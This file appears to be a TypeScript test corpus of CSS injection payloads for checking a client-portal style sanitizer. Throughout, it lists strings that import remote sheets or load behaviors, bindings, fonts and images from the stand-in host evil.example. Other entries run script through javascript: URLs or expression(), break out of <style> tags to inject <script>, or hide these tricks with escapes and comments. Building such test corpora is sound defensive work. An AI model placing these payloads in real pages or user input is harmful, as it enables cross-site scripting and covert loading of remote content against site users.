/**
 * Custom CSS an agency could send to attack its own client portal: load something from elsewhere,
 * run script, or break out of the <style> element. Every attack host is `evil.example`, so tests can
 * point it at a server of their own. String.raw keeps CSS escapes such as `\75 rl(` as written.
 */
export interface CssInjection {
  name: string;
  css: string;
}

export const ATTACK_HOST = 'evil.example';

export const cssInjectionCorpus: readonly CssInjection[] = [
  // @import and other at-rules that fetch or change how the sheet is read
  { name: '@import url()', css: String.raw`@import url(http://evil.example/x.css); div { color: red }` },
  { name: '@import string', css: String.raw`@import "http://evil.example/x.css";` },
  {
    name: '@import https with media',
    css: String.raw`@import url("https://evil.example/x.css") screen and (min-width: 1px);`,
  },
  { name: '@IMPORT uppercase', css: String.raw`@IMPORT url(http://evil.example/x.css);` },
  { name: '@import escaped name', css: String.raw`@\69mport url(http://evil.example/x.css);` },
  { name: '@import relative with layer', css: String.raw`@import 'x.css' layer(base); @layer base, theme;` },
  { name: '@import at end of input', css: String.raw`div { color: red } @import url(http://evil.example/x.css)` },
  {
    name: '@import inside @media',
    css: String.raw`@media screen { @import url(http://evil.example/x.css); .btn { color: red } }`,
  },
  {
    name: '@import inside @supports',
    css: String.raw`@supports (display: grid) { @import url(http://evil.example/x.css); }`,
  },
  { name: '@namespace', css: String.raw`@namespace svg url(http://evil.example/ns); svg|a { color: red }` },
  { name: '@charset', css: String.raw`@charset "utf-7"; div { color: red }` },
  { name: '@document', css: String.raw`@document url-prefix(http://evil.example) { div { color: red } }` },
  {
    name: '@layer block with url',
    css: String.raw`@layer base { div { background: url(http://evil.example/a.png) } }`,
  },
  { name: '@page with url', css: String.raw`@page { background: url(http://evil.example/a.png) }` },
  {
    name: '@property with url',
    css: String.raw`@property --x { syntax: '<url>'; inherits: false; initial-value: url(http://evil.example/a.png) }`,
  },
  // url() in every shape
  { name: 'url() http', css: String.raw`body { background: url(http://evil.example/bg.png) }` },
  { name: 'url() quoted http', css: String.raw`div { background-image: url("http://evil.example/bg.png") }` },
  { name: 'url() data:', css: String.raw`div { background: url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) }` },
  { name: 'url() quoted data:', css: String.raw`div { background-image: url("data:image/png;base64,iVBORw0KGgo=") }` },
  { name: 'url() javascript:', css: String.raw`div { background: url(javascript:alert(1)) }` },
  { name: 'url() vbscript:', css: String.raw`div { background: url(vbscript:msgbox(1)) }` },
  { name: 'url() escaped javascript:', css: String.raw`div { background: url("java\script:alert(1)") }` },
  { name: 'url() javascript: with leading space', css: String.raw`div { background: url(" javascript:alert(1)") }` },
  { name: 'url() protocol-relative', css: String.raw`div { background: url(//evil.example/bg.png) }` },
  { name: 'url() root-relative', css: String.raw`div { background: url(/uploads/bg.png) }` },
  { name: 'url() relative', css: String.raw`div { background: url(../bg.png) }` },
  { name: 'URL() uppercase', css: String.raw`div { background: URL(http://evil.example/bg.png) }` },
  { name: 'escaped url (\\75 rl)', css: String.raw`div { background: \75 rl(http://evil.example/bg.png) }` },
  { name: 'escaped url with string', css: String.raw`div { background: \75 rl("http://evil.example/bg.png") }` },
  { name: 'escaped url to a relative path', css: String.raw`div { background: \75 rl(x.png) }` },
  {
    name: 'escaped url with hex escapes in the scheme',
    css: String.raw`div { background: url("\68ttp://evil.example/a.png") }`,
  },
  { name: 'url split by a comment', css: String.raw`div { background: u/**/rl(http://evil.example/bg.png) }` },
  {
    name: 'url() holding a closing style tag',
    css: String.raw`div { background: url(https://evil.example/a.png</style><script>alert(1)</script>) }`,
  },
  { name: 'cursor url', css: String.raw`a { cursor: url(http://evil.example/c.cur), auto }` },
  { name: 'list-style-image', css: String.raw`ul { list-style-image: url(http://evil.example/dot.png) }` },
  { name: 'border-image', css: String.raw`div { border-image: url(http://evil.example/b.png) 30 round }` },
  {
    name: 'mask-image',
    css: String.raw`div { -webkit-mask-image: url(http://evil.example/m.svg); mask-image: url(http://evil.example/m.svg) }`,
  },
  { name: 'content url', css: String.raw`p::before { content: url(http://evil.example/i.png) }` },
  { name: 'filter url', css: String.raw`div { filter: url(http://evil.example/f.svg#blur) }` },
  { name: 'svg fill url', css: String.raw`svg { fill: url(http://evil.example/g.svg#g) }` },
  {
    name: 'http next to https',
    css: String.raw`div { background: url(https://ok.example/a.png) } p { background: url(http://evil.example/b.png) }`,
  },
  { name: 'url with !ie hack', css: String.raw`div { background: url(http://evil.example/a.png) !ie }` },
  { name: 'unclosed block', css: String.raw`div { background: url(http://evil.example/a.png)` },
  // image functions that take URLs as strings
  {
    name: 'image-set strings',
    css: String.raw`div { background-image: image-set("http://evil.example/a.png" 1x, "https://ok.example/b.png" 2x) }`,
  },
  {
    name: '-webkit-image-set url',
    css: String.raw`div { background-image: -webkit-image-set(url(http://evil.example/a.png) 1x) }`,
  },
  {
    name: 'cross-fade',
    css: String.raw`div { background-image: cross-fade(url(http://evil.example/a.png), url(http://evil.example/b.png), 50%) }`,
  },
  { name: 'image() string', css: String.raw`div { background-image: image("http://evil.example/a.png") }` },
  { name: 'src() string', css: String.raw`div { background-image: src("http://evil.example/a.png") }` },
  { name: 'image-set(attr())', css: String.raw`div { background-image: image-set(attr(title) 1x) }` },
  // custom properties and var()
  {
    name: 'custom property url',
    css: String.raw`:root { --x: url(http://evil.example/a.png) } div { background: var(--x) }`,
  },
  {
    name: 'custom property string through image-set(var())',
    css: String.raw`div { --bg: "http://evil.example/a.png"; background-image: image-set(var(--bg) 1x) }`,
  },
  {
    name: 'custom property closing style',
    css: String.raw`:root { --x: "</style><script>alert(1)</script>" } p::after { content: var(--x) }`,
  },
  {
    name: 'custom property image-set',
    css: String.raw`:root { --img: image-set("http://evil.example/a.png" 1x) } div { background-image: var(--img) }`,
  },
  // script: expression, behavior, bindings
  { name: 'expression()', css: String.raw`div { width: expression(alert(1)) }` },
  { name: 'escaped expression()', css: String.raw`div { width: \65xpression(alert(1)) }` },
  { name: 'behavior https', css: String.raw`div { behavior: url(https://evil.example/x.htc) }` },
  { name: 'escaped behavior property', css: String.raw`div { b\65havior: url(http://evil.example/x.htc) }` },
  { name: '-ms-behavior', css: String.raw`div { -ms-behavior: url(x.htc) }` },
  { name: '-moz-binding', css: String.raw`div { -moz-binding: url(http://evil.example/xbl.xml#x) }` },
  {
    name: '-ms-filter AlphaImageLoader',
    css: String.raw`div { -ms-filter: "progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/a.png')" }`,
  },
  { name: 'javascript: split by a comment', css: String.raw`div { background: ja/**/vascript:alert(1) }` },
  { name: 'javascript: in url split by a comment', css: String.raw`div { background: url(ja/**/vascript:alert(1)) }` },
  // breaking out of <style>
  { name: 'closing style then script', css: String.raw`</style><script>alert(1)</script>` },
  {
    name: 'rule then closing style',
    css: String.raw`div { color: red } </style><script>window.__pwned = 1</script><style>`,
  },
  { name: 'HTML comment markers', css: String.raw`<!-- div { color: red } -->` },
  {
    name: 'closing style in content string',
    css: String.raw`p::before { content: "</style><script>alert(1)</script>" }`,
  },
  {
    name: 'escaped closing style in string',
    css: String.raw`p::before { content: "\3c/style\3e\3cscript\3e alert(1)\3c/script\3e" }`,
  },
  { name: 'closing style in a comment', css: String.raw`/* </style><script>alert(1)</script> */ div { color: red }` },
  {
    name: 'closing style in a kept comment',
    css: String.raw`/*! </style><script>alert(1)</script> */ div { color: red }`,
  },
  { name: 'img onerror in content', css: String.raw`p::after { content: "<img src=x onerror=alert(1)>" }` },
  { name: 'closing style in font-family', css: String.raw`p { font-family: "</style><img src=x onerror=alert(1)>" }` },
  {
    name: 'closing style in attribute selector',
    css: String.raw`div[title="</style><script>alert(1)</script>"] { color: red }`,
  },
  { name: 'escaped < in identifier', css: String.raw`p { font-family: \3c/style\3e }` },
  // @font-face and nested blocks
  {
    name: '@font-face http src',
    css: String.raw`@font-face { font-family: Evil; src: url(http://evil.example/f.woff2) } p { font-family: Evil }`,
  },
  {
    name: '@font-face data: src',
    css: String.raw`@font-face { font-family: Evil; src: url(data:font/woff2;base64,AAAA) } p { font-family: Evil }`,
  },
  {
    name: 'nested @media with url',
    css: String.raw`@media screen { @media (min-width: 1px) { div { background: url(http://evil.example/a.png) } } }`,
  },
  {
    name: '@supports with bad url inside',
    css: String.raw`@supports (display: grid) { div { background: url(http://evil.example/a.png) } }`,
  },
  {
    name: '@supports condition with url',
    css: String.raw`@supports (background: url(http://evil.example/a.png)) { div { color: red } }`,
  },
  {
    name: '@keyframes with url',
    css: String.raw`@keyframes k { from { background: url(http://evil.example/a.png) } } div { animation: k 1s }`,
  },
];
